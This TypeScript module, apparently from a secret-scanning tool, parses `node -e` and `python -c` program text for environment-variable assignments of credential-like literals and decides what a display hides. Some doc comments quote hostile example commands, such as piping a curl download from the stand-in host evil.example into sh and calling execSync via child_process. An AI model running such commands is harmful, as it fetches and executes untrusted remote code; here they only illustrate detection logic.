// Part of spec's secret reader (see find-spec-secrets.ts): a program's own text (`node -e`, `python -c`): its assignments to its environment, where each expression ends, and how the display shows one (its calls in sight, its literals hidden).
import { proseCredential } from "./prose-secrets.js";
import { wholeNameTells } from "./shell-words.js";
import { plainLiteral, saysBesideRunTime } from "./shown-values.js";

/** JS's and Python's quotes, inside a character class. */
const PROGRAM_QUOTES = "'\"`";
/** A name in a JS or Python string, its quotes perhaps escaped for the shell (`\"TOKEN\"`, `'\''TOKEN'\''`). */
const PROGRAM_NAME = String.raw`\s*(?<nameEscape>\\?|'\\')(?<nameQuote>[${PROGRAM_QUOTES}])(?<name>[A-Za-z_]\w*)\k<nameEscape>\k<nameQuote>\s*`;
/**
 * A string literal's text (up to 512 characters, no quote or backslash inside, but a backtick in a
 * '…' or "…" literal: `'X\`id\`'`, whose backticks a shell's "…" reads at run time), its quotes
 * perhaps escaped for the shell (`\"X\"`), or written with the shell's `'\''` idiom inside '…'
 * (`'\''X'\''`). A template literal's text and quote are the `tickValue` and `tickQuote` groups.
 */
const PROGRAM_STRING = String.raw`\s*(?<prefix>[rRuUbBfF]{0,2})(?<valueEscape>\\?|'\\')(?:(?<valueQuote>['"])(?<value>[^'"\\\n]{1,512})\k<valueEscape>\k<valueQuote>|(?<tickQuote>\`)(?<tickValue>[^${PROGRAM_QUOTES}\\\n]{1,512})\k<valueEscape>\`)`;

/** JS's assignment operators that set a variable: `=`, `??=`, `||=`, `&&=` (not `==`, `=>`). */
const JS_ASSIGN = String.raw`\s*(?:\?\?|\|\||&&)?=(?![=>])`;
/** Python's `=` after a target, a type annotation perhaps between (`os.environ['TOKEN']: str = 'X'`; not `==`). */
const PY_ASSIGN = String.raw`(?:\s*:\s*[A-Za-z_][\w.]*(?:\[[\w.,\s]*\])?)?\s*=(?!=)`;
/** The first key of an object literal opened at `{`: bare (`TOKEN:`) or quoted (`'TOKEN':`). */
const FIRST_KEY = String.raw`\{\s*(?<name>[A-Za-z_]\w*)\s*:`;
/** JS's environment objects: Node's `process.env`, Bun's `Bun.env` (blanks around the dot). */
const JS_ENV = String.raw`(?:process|Bun)\s*\.\s*env`;
/** Python's `os.environ`, `environ` alone (`from os import environ`), or under another module name (`import os as o`). */
const PY_ENVIRON = String.raw`(?<![\w.$])(?:[A-Za-z_]\w*\s*\.\s*)?environ`;

/**
 * A program's assignment to its environment, written in its own text: JS's `process.env.TOKEN =
 * 'X'` (or `??=`, `||=`, `&&=`; Bun's `Bun.env` too), `process.env["TOKEN"] = 'X'`,
 * `Object.assign(process.env, {TOKEN: 'X'})` and `{...process.env, TOKEN: 'X'}` (the first key),
 * Deno's `Deno.env.set('TOKEN', 'X')`, Python's `os.environ['TOKEN'] = 'X'` (blanks around the
 * index, a type annotation before `=`: `os.environ['TOKEN']: str = 'X'`),
 * `os.environ.setdefault('TOKEN', 'X')`, `os.putenv('TOKEN', 'X')`, `os.environ.update(TOKEN='X')`,
 * `os.environ.update({'TOKEN': 'X'})` and `{**os.environ, 'TOKEN': 'X'}` (the first key),
 * `environ` also alone or under another module's name (`from os import environ`, `import os as
 * o`); a Python string's prefix (`r'X'`, `f'X'`) is passed over. A name bound to the environment
 * in the same text is read as the environment is (see `ENV_ALIAS`, `ALIAS_ENV`). A value that is
 * no such literal (`f('X')`, `os.getenv('A', 'X')`, `'''X'''`) is matched empty where it starts,
 * after the blanks (the `expression` group), and read as an expression (see `programValues`).
 */
const PROGRAM_ENV_HEADS = [
  String.raw`${JS_ENV}\s*\.\s*(?<name>[A-Za-z_]\w*)${JS_ASSIGN}`,
  String.raw`${JS_ENV}\s*\[${PROGRAM_NAME}\]${JS_ASSIGN}`,
  String.raw`Object\.assign\(\s*${JS_ENV}\s*,\s*${FIRST_KEY}`,
  String.raw`Object\.assign\(\s*${JS_ENV}\s*,\s*\{${PROGRAM_NAME}:`,
  String.raw`\.\.\.\s*${JS_ENV}\s*,\s*(?<name>[A-Za-z_]\w*)\s*:`,
  String.raw`\.\.\.\s*${JS_ENV}\s*,${PROGRAM_NAME}:`,
  String.raw`Deno\s*\.\s*env\s*\.\s*set\s*\(${PROGRAM_NAME},`,
  String.raw`${PY_ENVIRON}\s*\[${PROGRAM_NAME}\]${PY_ASSIGN}`,
  String.raw`${PY_ENVIRON}\s*\.\s*setdefault\s*\(${PROGRAM_NAME},`,
  String.raw`(?<![\w.$])(?:[A-Za-z_]\w*\s*\.\s*)?putenv\s*\(${PROGRAM_NAME},`,
  String.raw`${PY_ENVIRON}\s*\.\s*update\s*\(\s*(?<name>[A-Za-z_]\w*)\s*=(?!=)`,
  String.raw`${PY_ENVIRON}\s*\.\s*update\s*\(\s*\{${PROGRAM_NAME}:`,
  String.raw`\*\*\s*${PY_ENVIRON}\s*,${PROGRAM_NAME}:`,
];

/** What follows a head: a plain string literal, or where an expression starts (see `PROGRAM_ENV_HEADS`). */
const PROGRAM_VALUE = String.raw`(?:${PROGRAM_STRING}|[ \t]*(?<expression>)(?=[^\s;,)\]}]))`;

const PROGRAM_ENV = PROGRAM_ENV_HEADS.map((head) => new RegExp(`${head}${PROGRAM_VALUE}`, "g"));

/**
 * A name bound to the environment in a program's text (the `alias` group): `e = os.environ` (or
 * `os.environ.copy()`, `dict(os.environ)`), `from os import environ as E`, JS's `const e =
 * process.env` (or `{...process.env}`); not `e = os.environ['X']` or `e = os.environ.get(…)`,
 * which read it.
 */
const ENV_ALIAS = new RegExp(
  [
    String.raw`(?<![\w.$])(?<alias>[A-Za-z_$][\w$]*)\s*=\s*(?:${PY_ENVIRON}(?:\s*\.\s*copy\s*\(\s*\))?|dict\s*\(\s*${PY_ENVIRON}\s*\)|${JS_ENV}|\{\s*\.\.\.\s*${JS_ENV}\s*\})(?!\s*[\w$.[(])`,
    String.raw`(?<![\w.$])environ\s+as\s+(?<alias2>[A-Za-z_]\w*)`,
  ].join("|"),
  "g",
);

/**
 * `PROGRAM_ENV`'s shapes on a name (the `alias` group, which an `ENV_ALIAS` must bind):
 * `e['TOKEN'] = 'X'`, `e.TOKEN = 'X'`, `e.setdefault('TOKEN', 'X')`, `e.update(…)`.
 */
const ALIAS_ENV = [
  String.raw`\s*\[${PROGRAM_NAME}\](?:${PY_ASSIGN}|${JS_ASSIGN})`,
  String.raw`\s*\.\s*(?<name>[A-Za-z_]\w*)${JS_ASSIGN}`,
  String.raw`\s*\.\s*setdefault\s*\(${PROGRAM_NAME},`,
  String.raw`\s*\.\s*update\s*\(\s*(?<name>[A-Za-z_]\w*)\s*=(?!=)`,
  String.raw`\s*\.\s*update\s*\(\s*\{${PROGRAM_NAME}:`,
].map((tail) => new RegExp(String.raw`(?<![\w.$])(?<alias>[A-Za-z_$][\w$]*)${tail}${PROGRAM_VALUE}`, "g"));

/** A word of a `PROGRAM_ENV` assignment or an `ENV_ALIAS` binding: a line without one holds none. */
const PROGRAM_ENV_WORD = /(?:process|Bun|Deno)\s*\.\s*env|environ|putenv/;

/**
 * Where a program's assignment to its environment writes a literal under a telling name: `[start,
 * end)` of the line, and the name; or, `expression` set, where a value that starts with no such
 * literal (a call, a prefixed or triple-quoted string) starts (`end` one past it), read to the
 * statement's end (R56-3).
 */
export interface ProgramValue {
  start: number;
  end: number;
  name: string;
  expression?: true;
  /**
   * A literal quoted with the shell's `'\''` idiom (`[start, end)` takes the idiom's quotes): where
   * the literal starts, its prefix and all, and whether its text says something. The idiom is one only
   * where the shell's '…' is open at it (read where the word is, see `lineSecrets`); elsewhere
   * (`node -e "…= '\''X'\''"`) the value is an expression from `from`, as before the idiom was read.
   */
  idiom?: { from: number; plain: boolean };
  /**
   * The literal holds a part the shell may read at run time (`'X$HOME'` in `"…"`): read only as
   * the literal, never as an expression running on past it, which would hide the part in the display.
   */
  runTime?: true;
}

/**
 * After a string literal's closing quote in a word's value (the shell's quoting read), what makes
 * it part of a longer expression: `+`, `.`, or another literal (`'sk-'+'live…'`,
 * `'abc'.repeat(2)`, Python's `'a' 'b'`). Sticky: tried at `lastIndex`.
 */
export const GOES_ON = /\s*[+.`'"]/y;

/** What, last before a line break (blanks aside), makes the expression go on past it: a binary operator or a `.`. */
const GOES_ON_AT_BREAK = /[-+*/%<>=&|?:.~^!]/;

/**
 * Whether `text[i]` is a `\\` that joins the next line to its own (Python's explicit line join; a
 * shell's, kept as written in '…'): read as a blank, so the expression goes on past the break.
 */
const joinsLine = (text: string, i: number) => text[i] === "\\" && /[\n\r]/.test(text[i + 1] ?? "");
/** What, before a `/` (blanks aside), makes it open a JS regex literal, not divide: an operator, an opening or closing punctuator, or nothing. */
const REGEX_BEFORE = /[-+*%<>~^(,=:[!&|?{};]/;

/** The line break at or after `at` in `text`, or its end. */
function lineEndAt(text: string, at: number): number {
  let j = at;
  while (j < text.length && text[j] !== "\n" && text[j] !== "\r") j += 1;
  return j;
}

/** What a program's text passes over whole at a point (see `passedOver`). */
interface PassedOver {
  /** Where it ends (after a regex literal's flags). */
  end: number;
  /** A JS regex literal's body, `[start, end)` between its slashes; none for a comment. */
  body?: [number, number];
  /** Left open (a regex literal on its line, a `/*` never closed): it cannot be read with confidence. */
  open: boolean;
}

/**
 * At `i` of a program's `text`, `last` being the last character read outside strings and comments
 * that is no blank (`""` for none): the comment or JS regex literal that opens there, or undefined.
 * A comment is `/*…*\/`, or `//…` or Python's `#…` to the line's end (a `#` after `.` is JS's
 * private name). A regex literal is a `/` after an operator, an opening or closing punctuator or
 * nothing (`REGEX_BEFORE`), to an unescaped `/` outside `[…]` on its line, then its flags. The
 * one reader of both for `statementEnd` and `shownProgramExpression`.
 */
function passedOver(text: string, i: number, last: string): PassedOver | undefined {
  const c = text[i];
  const next = text[i + 1];
  if (c === "/" && next === "*") {
    const close = text.indexOf("*/", i + 2);
    return close < 0 ? { end: text.length, open: true } : { end: close + 2, open: false };
  }
  if ((c === "/" && next === "/") || (c === "#" && last !== "."))
    return { end: lineEndAt(text, i), open: false };
  if (c !== "/" || (last !== "" && !REGEX_BEFORE.test(last))) return undefined;
  let j = i + 1;
  let inClass = false;
  for (; j < text.length && !/[\n\r]/.test(text[j] as string); j += 1) {
    const r = text[j] as string;
    if (r === "\\") j += 1;
    else if (r === "[") inClass = true;
    else if (r === "]") inClass = false;
    else if (r === "/" && !inClass) break;
  }
  if (text[j] !== "/") return { end: lineEndAt(text, i), open: true };
  let end = j + 1;
  while (/[a-z]/.test(text[end] ?? "")) end += 1;
  return { end, body: [i + 1, j], open: false };
}

/**
 * Where the expression at `from` in a program's text ends: before a `;`, a `,` or a line break
 * outside every bracket it opened, or a `)`, `]` or `}` that closes nothing it opened, and before
 * the blanks there (a line break after or before an operator, or after a `\\` that joins lines (see
 * `joinsLine`), goes on); or at the end of `text`. A
 * string literal (quoted `'`, `"` or a backtick, `\\` escaping), a comment and a JS regex literal
 * (see `passedOver`) are passed over whole, so a bracket in them neither ends the expression nor
 * keeps it open (r51 F3: `"a"+/[)]/.source+"X"`). A comment or regex left open, which cannot be
 * read with confidence, ends the expression at the line break after it (or the end of `text`). One pass.
 */
export function statementEnd(text: string, from: number): number {
  let depth = 0;
  let quote = "";
  let end = text.length;
  // The last character read outside strings and comments that is no blank.
  let last = "";
  for (let i = from; i < text.length; i += 1) {
    const c = text[i] as string;
    if (quote !== "") {
      if (c === "\\") i += 1;
      else if (c === quote) quote = "";
      continue;
    }
    const over = passedOver(text, i, last);
    if (over?.open) {
      end = lineEndAt(text, i);
      break;
    }
    if (over) {
      i = over.end - 1;
      if (over.body) last = text[i] as string;
      continue;
    }
    // A line break after an operator, or before one, goes on (`'sk-'+ // (\n'X'`).
    if (depth === 0 && (c === "\n" || c === "\r")) {
      let j = i + 1;
      while (j < text.length && /\s/.test(text[j] as string)) j += 1;
      if (
        GOES_ON_AT_BREAK.test(last) ||
        joinsLine(text, i - 1) ||
        (/[-+*%.?:&|^=<>]/.test(text[j] ?? "") && text[j + 1] !== "/")
      ) {
        i = j - 1;
        continue;
      }
    }
    if (!/\s/.test(c) && !joinsLine(text, i)) last = c;
    if (c === "'" || c === '"' || c === "`") quote = c;
    else if (c === "(" || c === "[" || c === "{") depth += 1;
    else if ((c === ")" || c === "]" || c === "}") && depth > 0) depth -= 1;
    // A `,` or `;` inside a bracket it opened (`.concat('a', 'b')`) is part of the expression.
    else if (depth === 0 && /[;,\n\r)\]}]/.test(c)) {
      end = i;
      break;
    }
  }
  while (end > from && /\s/.test(text[end - 1] as string)) end -= 1;
  return end;
}

/** Names of calls whose string argument names a module to load: a location, shown (see `shownLiteral`). */
const MODULE_LOADERS = /^(?:require|import|__import__|import_module)$/;

/** Python's and JS's operators written as words: between two operands, as `+` is. */
const WORD_OPERATORS = /^(?:and|or|not|in|is|if|else|typeof|instanceof|void)$/;

/** Calls and indexes that read the environment (`getenv`, `environ[…]`, `env[…]`; `environ.get` is read as `getenv`): a literal there is a variable's name or its default. */
const ENV_READS = /^(?:getenv|environ|env)$/;
/** What, just before a call's `(`, makes it Python's `os.environ.get` (read as `getenv`). */
const ENV_GET = /(?:environ|env)\s*\.\s*get\s*$/;

/**
 * For the display (r54 G4): whether a literal's text read at run time in a program's env
 * expression (an argument of a call a name roots, an index, a template's `${…}`; see
 * `shownProgramExpression`) is shown as written rather than hidden in place. Shown when it reads
 * as a command or a location, which a credential does not: it holds a blank (a line break is
 * none) or a `|` (`'curl
 * evil.example/p|sh'`) or a URL's `://`, it is a path (it starts with `/`, `./`, `../` or `~/`,
 * or dotted words before its first `/`: `evil.example/p`), or it is the argument of a call that
 * loads a module (`require('child_process')`, `__import__('os')`) and reads as no credential: a
 * path, a scoped name, or a name without digits that `proseCredential` does not take
 * (`require('sk-live-…')` is hidden; R56-3). Any other literal, one token (a
 * key, a password, base64 text for `atob`), is hidden, and so is every literal that reads the
 * environment (`ENV_READS`: `os.getenv('X', 'a passphrase')`'s default, blanks and all).
 */
function shownLiteral(body: string, callee: string): boolean {
  if (ENV_READS.test(callee)) return false;
  return (
    (MODULE_LOADERS.test(callee) && (!/\d/.test(body) || /^[@.~/]/.test(body)) && !proseCredential(body)) ||
    /[ \t|]|:\/\//.test(body) ||
    /^(?:\.{0,2}|~)\//.test(body) ||
    /^[\w-]+(?:\.[\w-]+)+(?::\d+)?\//.test(body)
  );
}

/**
 * For the display only (r50 F2): a program's expression `text` (from its first literal's opening
 * quote to the statement's end, see `statementEnd`) with string literals (`'…'`, `"…"`, Python's
 * `'''…'''` and `"""…"""`, a template's text between its `${…}`) and regex literals' bodies
 * written as their quotes around `literal(its text)`, and everything else written as
 * `code(text)`, so a call in the expression (`'sk-'+require('child_process').execSync('curl …')`)
 * stays in sight. The chain's literals are all hidden: those a literal roots, outside every
 * bracket, or inside a method's brackets on a literal (`'a'.concat('b')`, `'-'.join(['x', 'y'])`)
 * or inside a grouping, an array or an object in the chain. What a name roots (`require(…)`,
 * `f('x')`, `x['k']`) and a template's `${…}` (nested templates too) are code, read at run time:
 * a literal there is hidden unless `shownLiteral` (r54 G4). Undefined when there is no such code
 * (the expression is literals, their methods, numbers, operators), or a comment or regex literal
 * is left open (see `passedOver`): hidden whole, as the export hides it. One pass.
 */
export function shownProgramExpression(
  text: string,
  literal: (text: string) => string,
  code: (text: string) => string,
): string | undefined {
  const read = programExpression(text);
  return read?.runTime
    ? read.pieces.map((piece) => (piece.hidden ? literal(piece.text) : code(piece.text))).join("")
    : undefined;
}

/** A piece of a program's expression (see `programExpression`): code, or a literal's text to hide. */
interface ExpressionPiece {
  text: string;
  hidden: boolean;
  /** A literal that names a variable read from the environment (`os.getenv('HOME')`, `os.environ['X']`): hidden, but no credential. */
  envName?: boolean;
}

/**
 * A program's expression `text` read as `shownProgramExpression` shows it: its pieces in order and
 * whether code a name roots was read (the expression is then shown in place). Undefined when a
 * comment or regex literal is left open (see `passedOver`). One pass.
 */
export function programExpression(
  text: string,
): { pieces: ExpressionPiece[]; runTime: boolean; open: boolean } | undefined {
  // What is written, in order: code, or a literal's text to hide.
  const pieces: ExpressionPiece[] = [];
  // The code read since the last literal hidden.
  let pending = "";
  interface Frame {
    // Whether its literals are the chain's.
    chain: boolean;
    // Whether the operand being read there started with a literal (undefined: none started yet).
    literal: boolean | undefined;
    // A template's `${…}`, which its `}` closes.
    template: boolean;
    // The name of the call it is the brackets of (`require`), or "".
    callee: string;
    // Whether no `,` was read in it yet: its first argument is read.
    first: boolean;
  }
  // Each bracket open (the expression itself first).
  const frames: Frame[] = [{ chain: true, literal: undefined, template: false, callee: "", first: true }];
  // A literal's text: hidden in place, or kept as code (see `shownLiteral`).
  const put = (body: string) => {
    const { chain, callee, first } = frames.at(-1) as Frame;
    if (chain || !shownLiteral(body, callee)) {
      pieces.push({ text: pending, hidden: false });
      // The variable's name: `getenv`'s first argument, or an index of `environ`.
      const envName = !chain && first && ENV_READS.test(callee) && /^[A-Za-z_]\w*$/.test(body);
      if (body !== "") pieces.push({ text: body, hidden: true, ...(envName ? { envName } : {}) });
      pending = "";
    } else pending += body;
  };
  // Whether code a name roots was read: the expression is then shown in place.
  let runTime = false;
  // Whether a literal is left open at the end (the text is cut short).
  let open = false;
  // The last character read that is no blank (outside literals and comments), and the last name read.
  let last = "";
  let name = "";
  // A template's text from `from` (after its opening backtick, or a `${…}`'s `}`) to its closing
  // backtick, read, or a `${`, which opens a frame; where reading goes on.
  const template = (from: number): number => {
    let j = from;
    while (j < text.length && text[j] !== "`" && !(text[j] === "$" && text[j + 1] === "{"))
      j += text[j] === "\\" ? 2 : 1;
    j = Math.min(j, text.length);
    put(text.slice(from, j));
    last = "`";
    if (j >= text.length) {
      open = true;
      return j;
    }
    if (text[j] === "`") {
      pending += "`";
      return j + 1;
    }
    pending += "${";
    runTime = true;
    frames.push({ chain: false, literal: undefined, template: true, callee: "", first: true });
    last = "{";
    return j + 2;
  };
  for (let i = 0; i < text.length; ) {
    const c = text[i] as string;
    const frame = frames.at(-1) as Frame;
    if (c === "`") {
      frame.literal ??= true;
      pending += c;
      i = template(i + 1);
      continue;
    }
    if (c === "'" || c === '"') {
      const quote = text.startsWith(c.repeat(3), i) ? c.repeat(3) : c;
      let close = i + quote.length;
      while (close < text.length && !text.startsWith(quote, close)) close += text[close] === "\\" ? 2 : 1;
      if (close >= text.length) open = true;
      close = Math.min(close, text.length);
      frame.literal ??= true;
      pending += quote;
      put(text.slice(i + quote.length, close));
      pending += text.slice(close, close + quote.length);
      last = c;
      i = close + quote.length;
      continue;
    }
    const over = passedOver(text, i, last);
    if (over?.open) return undefined;
    if (over) {
      if (over.body) {
        frame.literal ??= true;
        pending += text.slice(i, over.body[0]);
        put(text.slice(over.body[0], over.body[1]));
        pending += text.slice(over.body[1], over.end);
        last = "/";
      } else pending += text.slice(i, over.end);
      i = over.end;
      continue;
    }
    let step = 1;
    let wordOperator = false;
    if (/[A-Za-z_$]/.test(c)) {
      while (/[\w$]/.test(text[i + step] ?? "")) step += 1;
      // A method's name (after `.`), and a Python string's prefix (`f'…'`), root nothing.
      const prefix = /^[rRuUbBfF]{1,2}$/.test(text.slice(i, i + step)) && /['"]/.test(text[i + step] ?? "");
      name = text.slice(i, i + step);
      // An operator written as a word (Python's `or`, JS's `typeof`) ends the operand, as `+` does (R56-3).
      wordOperator = last !== "." && WORD_OPERATORS.test(name);
      if (wordOperator) frame.literal = undefined;
      else {
        if (last !== "." && !prefix && frame.literal === undefined) frame.literal = false;
        if (last !== "." && !prefix && frame.literal === false) runTime = true;
      }
    } else if (/[\d\s.]/.test(c) || joinsLine(text, i)) {
      // A number, a blank (a line join too), a method's dot: the operand goes on.
    } else if (c === "(" || c === "[" || c === "{") {
      // A call or an index (after a name, a bracket or a literal) is the chain's when a literal roots it.
      const call = /[\w$)\]'"`]/.test(last);
      const callee = !/[\w$]/.test(last)
        ? ""
        : c === "(" && ENV_GET.test(text.slice(Math.max(0, i - 16), i))
          ? "getenv"
          : name;
      frames.push({
        chain: frame.chain && (!call || frame.literal !== false),
        literal: undefined,
        template: false,
        callee,
        first: true,
      });
    } else if (c === "}" && frame.template) {
      frames.pop();
      pending += c;
      i = template(i + 1);
      continue;
    } else if (c === ")" || c === "]" || c === "}") {
      if (frames.length > 1 && !frame.template) frames.pop();
    } else {
      frame.literal = undefined;
      if (c === ",") frame.first = false;
    }
    pending += text.slice(i, i + step);
    // After an operator written as a word, as after `+`: a `/` opens a regex, a `(` a grouping.
    if (!/\s/.test(c) && !joinsLine(text, i)) last = wordOperator ? "+" : (text[i + step - 1] as string);
    i += step;
  }
  pieces.push({ text: pending, hidden: false });
  return { pieces, runTime, open };
}

/**
 * Each `PROGRAM_ENV` assignment in `line` of a literal under a name whose whole name tells, in the
 * order written; one to a name an `ENV_ALIAS` binds anywhere in `line` too (`e = os.environ;
 * e['TOKEN'] = 'X'`). One pass for each shape.
 */
export function programValues(line: string): ProgramValue[] {
  if (!PROGRAM_ENV_WORD.test(line)) return [];
  const found: ProgramValue[] = [];
  const take = (match: RegExpMatchArray) => {
    const {
      name = "",
      valueEscape = "",
      prefix = "",
      expression,
      tickValue = "",
      tickQuote = "",
      value = tickValue,
      valueQuote = tickQuote,
    } = match.groups ?? {};
    if (!wholeNameTells(name)) return;
    const end = (match.index ?? 0) + match[0].length - valueEscape.length - valueQuote.length;
    // An f-string's `{…}` is read at run time.
    const formatted = /f/i.test(prefix) && value.includes("{");
    if (expression !== undefined) found.push({ start: end, end: end + 1, name, expression: true });
    else if (valueEscape === "'\\'") {
      // In a program written in the shell's '…', a literal quoted with its `'\''` idiom
      // (`TOKEN: '\''X'\''`) is hidden with the idiom's quotes, as one piece the shell joins.
      const idiom = valueEscape.length + valueQuote.length;
      const from = end - value.length - idiom - prefix.length;
      // In '…' a `$` in it is no run-time part: text beside one is a literal too (r64s #5).
      const plain = !formatted && (plainLiteral(value) || saysBesideRunTime(value));
      found.push({ start: end - value.length - idiom, end: end + idiom, name, idiom: { from, plain } });
    } else if (!formatted && plainLiteral(value)) found.push({ start: end - value.length, end, name });
    // One written around a part the shell may read at run time (`"…= 'X$HOME'"`, r64s #5) too: its
    // literal text is hidden, the part kept in sight in the display (see `shownInPlace`).
    else if (!formatted && saysBesideRunTime(value))
      found.push({ start: end - value.length, end, name, runTime: true });
  };
  for (const pattern of PROGRAM_ENV) for (const match of line.matchAll(pattern)) take(match);
  const aliases = new Set<string>();
  for (const match of line.matchAll(ENV_ALIAS))
    aliases.add(match.groups?.alias ?? match.groups?.alias2 ?? "");
  if (aliases.size > 0)
    for (const pattern of ALIAS_ENV)
      for (const match of line.matchAll(pattern)) if (aliases.has(match.groups?.alias ?? "")) take(match);
  found.sort((x, y) => x.start - y.start);
  // A value two shapes read (`environ` bound to itself) is taken once.
  return found.filter(
    (value, index) => index === 0 || (found[index - 1] as ProgramValue).start !== value.start,
  );
}
